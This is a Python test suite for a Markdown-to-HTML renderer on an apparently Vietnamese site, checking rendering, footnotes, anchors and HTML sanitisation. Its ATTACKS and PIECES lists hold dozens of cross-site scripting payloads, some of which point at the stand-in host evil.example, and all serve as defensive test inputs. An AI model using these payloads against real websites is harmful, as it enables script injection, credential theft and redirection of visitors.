"""Markdown to HTML: what editors write comes out, what attackers write does not."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.core.anchors import drop_wrong_languages, make_anchor, make_anchors_safe
from plugins.core.html import parse, serialise, text_of
from plugins.core.markup import Renderer
from tests.plugins.samples import rewritten

if TYPE_CHECKING:
    from lxml.html import HtmlElement

RENDERERS = {lang: Renderer(lang) for lang in ("vi", "en")}


def render(text: str, lang: str = "vi") -> str:
    return RENDERERS[lang].render(text)


WRITTEN = {
    "**đậm** *nghiêng*": "<p><strong>đậm</strong> <em>nghiêng</em></p>",
    "## Đề mục": "<h2>Đề mục</h2>",
    "> lời trích": "<blockquote>\n<p>lời trích</p>\n</blockquote>",
    "1. một\n2. hai": "<ol>\n<li>một</li>\n<li>hai</li>\n</ol>",
    "3. ba\n4. bốn": '<ol start="3">\n<li>ba</li>\n<li>bốn</li>\n</ol>',
    "TTHC\n:   thủ tục": "<dl>\n<dt>TTHC</dt>\n<dd>thủ tục</dd>\n</dl>",
    "![Toàn cảnh](a.jpg)": '<p><img alt="Toàn cảnh" src="a.jpg"></p>',
    '<span lang="en">one-stop shop</span>': '<p><span lang="en">one-stop shop</span></p>',
    "```\na <b>\n```": "<pre><code>a &lt;b&gt;\n</code></pre>",
    "một\\\nhai": "<p>một\\\nhai</p>",
    "[Gọi](tel:113)": '<p><a href="tel:113">Gọi</a></p>',
    "## Mục {#muc-a}": '<h2 id="muc-a">Mục</h2>',
}


@pytest.mark.parametrize(("text", "html"), WRITTEN.items())
def test_what_editors_write_comes_out(text: str, html: str) -> None:
    assert render(text).strip() == html


def test_tables_keep_the_side_their_cells_are_set_to() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<th align="right">b</th>' in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("lang", "title"),
    [("vi", "Về chỗ chú thích 1 trong bài"), ("en", "Back to reference 1 in the text")],
)
def test_footnotes_lead_there_and_back(lang: str, title: str) -> None:
    html = render("chữ[^1]\n\n[^1]: Nội dung.", lang)
    assert '<sup id="fnref-1"><a class="footnote-ref" href="#fn-1">1</a></sup>' in html
    assert f'<a class="footnote-backref" href="#fnref-1" title="{title}">↩</a>' in html
    assert '<div class="footnote">' in html


def test_one_article_s_footnotes_are_not_the_next_one_s() -> None:
    render("a[^1]\n\n[^1]: Một.")
    assert render("b[^1]\n\n[^1]: Hai.").count("<li") == 1


ATTACKS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1) />",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=//evil.example><input name=a><button>Gửi</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=x target=_blank ping=//evil.example download>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert%281%29)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](x.jpg "a\\" onerror=\\"alert(1)")',
    '[x](x "a" onclick=alert(1))',
    "# x {onclick=alert(1)}",
    "# x {: onclick=alert(1) style=x data-module=night-mode}",
    "<div data-module=night-mode class=visually-hidden hidden>x</div>",
    "<p class='menu' data-s=s1 data-say=x>x</p>",
    "<p is=x-evil slot=a part=b nonce=c autofocus contenteditable tabindex=5 accesskey=a>x</p>",
    "<p role=alert aria-hidden=true aria-live=assertive>x</p>",
    "<a href=x name=noi_dung>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><%= x %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "<x-y onclick=alert(1)>x</x-y>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "</div></article></main><script>alert(1)</script>",
    "<table><td><script>alert(1)</script></table>",
    "<photo-slot data-photo='x'></photo-slot>",
)
TAGS = {
    *[
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "caption",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
    ],
    *[
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "s",
        "samp",
    ],
    *[
        "small",
        "span",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
        "var",
    ],
}
ATTRIBUTES = {
    *[
        "lang",
        "dir",
        "id",
        "title",
        "href",
        "hreflang",
        "role",
        "class",
        "span",
        "src",
        "alt",
        "width",
        "height",
        "value",
        "start",
    ],
    *["reversed", "type", "colspan", "rowspan", "align", "scope", "datetime"],
}
SCHEMES = {"http", "https", "mailto", "tel"}


def assert_harmless(html: str) -> None:
    tree: HtmlElement = parse(html)
    for element in tree.iterdescendants():
        assert element.tag in TAGS
        assert set(element.keys()) <= ATTRIBUTES
        assert element.get("class", "") in {"", "footnote", "footnote-ref", "footnote-backref"}
        for name in ("href", "src"):
            scheme = re.match(
                r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", element.get(name, ""), re.IGNORECASE
            )
            assert scheme is None or scheme[1].lower() in SCHEMES


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "chữ {} chữ", "> {}", "- {}", "## {}", "| a |\n|---|\n| {} |"]
)
def test_attacks_come_to_nothing(attack: str, around: str) -> None:
    assert_harmless(render(around.format(attack)))


PIECES = (
    *("<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=javascript:x>", "<svg>"),
    *("<!--", "-->", "<p class=x>", "</p>", "<div id=a data-x=y>", "<style>", "</style>", '"', "'"),
    *(
        ">",
        "<",
        "&",
        "`",
        "```\n",
        "\n\n",
        "    ",
        "# ",
        "> ",
        "- ",
        "1. ",
        "[",
        "](",
        ")",
        "![",
        "|",
    ),
    *(
        "[^1]",
        "[^1]: ",
        "{: #a onclick=x }",
        "*",
        "**",
        "_",
        "\\",
        "Tiếng Việt",
        "&#106;",
        "---\n",
        ":   ",
    ),
)


@settings(deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=25))
def test_any_scraps_of_markdown_come_out_harmless_and_balanced(pieces: list[str]) -> None:
    html = render("".join(pieces))
    assert_harmless(html)
    tree = parse(html)
    again = parse(serialise(tree))
    assert [e.tag for e in again.iter()] == [e.tag for e in tree.iter()]
    assert text_of(again) == text_of(tree)


@settings(deadline=None)
@given(st.text())
def test_any_text_can_be_a_body_and_an_attribute(text: str) -> None:
    tree = parse(render(text))
    tree.set("title", text_of(tree))
    assert_harmless(serialise(tree))


@pytest.mark.parametrize("text", ["a\x01b", "a&#1;b", "a&#xFFFE;b", "a&#xD800;b", "a&#0;b"])
def test_what_no_page_can_hold_is_left_out(text: str) -> None:
    tree = parse(render(text))
    tree.set("title", text_of(tree))
    assert re.fullmatch("a\ufffd?b", tree.get("title"))


ANCHORS = {
    '<h2 id="a">x</h2>': '<h2 id="a">x</h2>',
    '<h2 id="noi_dung">x</h2>': '<h2 id="noi-dung">x</h2>',
    '<p id="a"></p><p id="a"></p>': '<p id="a"></p><p></p>',
    '<p id="a_b"></p><p id="a-b"></p>': '<p id="a-b"></p><p></p>',
    '<p id=""></p><p id=" a "></p>': '<p></p><p id="a"></p>',
    '<p id="a b"></p><a href="#a%20b">x</a>': '<p id="a-b"></p><a href="#a-b">x</a>',
    '<a href="#noi_dung">x</a>': '<a href="#noi-dung">x</a>',
    '<a href="/x#noi_dung">x</a>': '<a href="/x#noi_dung">x</a>',
}


@pytest.mark.parametrize(("html", "expected"), ANCHORS.items())
def test_no_anchor_of_a_body_is_used_twice_or_by_the_page(html: str, expected: str) -> None:
    assert rewritten(html, make_anchors_safe) == expected


def test_a_footnote_still_finds_its_text_when_its_name_has_spaces() -> None:
    html = rewritten(render("a[^ghi chú_1]\n\n[^ghi chú_1]: Nội dung."), make_anchors_safe)
    tree = parse(html)
    ids = {e.get("id") for e in tree.iter() if e.get("id")}
    links = {unquote(a.get("href", "")).removeprefix("#") for a in tree.iter("a")}
    assert len(links) == 2
    assert links == ids


@given(st.text())
def test_an_anchor_has_neither_spaces_nor_underscores(name: str) -> None:
    anchor = make_anchor(name)
    assert not re.search(r"[_\s]", anchor)
    assert make_anchor(anchor) == anchor


PICTURE = (
    '<p>a<picture><source type="image/avif" srcset="/a.avif 480w"><source srcset="/b.webp">'
    '<img src="/a.jpg" alt=""></picture>b<wbr>c</p>'
)


@pytest.mark.parametrize(
    "html",
    ["", "chữ", "<p>a</p>", "a<p>b</p>c", "<div>a</div>", "a &amp; b &lt;", "<br>x", PICTURE],
)
def test_parsing_and_serialising_change_nothing(html: str) -> None:
    assert serialise(parse(html)) == html


def test_the_text_of_an_element_has_its_white_space_folded() -> None:
    assert text_of(parse("<p>a\n <b> b</b>&nbsp;c</p> d")) == "a b c d"


@pytest.mark.parametrize(
    ("name", "anchor"),
    [("muc_1", "muc-1"), ("mục 1.2", "mục-1.2"), ('"><script>', "-script-"), ("fn:1", "fn:1")],
)
def test_an_anchor_has_no_sign_that_a_style_sheet_could_misread(name: str, anchor: str) -> None:
    assert make_anchor(name) == anchor


def test_only_the_name_of_a_language_is_one() -> None:
    html = '<p lang="en">a</p><p lang="zh-Hant-TW">b</p><p lang="&quot;&gt;x">c</p><p lang="">d</p>'
    assert rewritten(html, drop_wrong_languages) == (
        '<p lang="en">a</p><p lang="zh-Hant-TW">b</p><p>c</p><p>d</p>'
    )
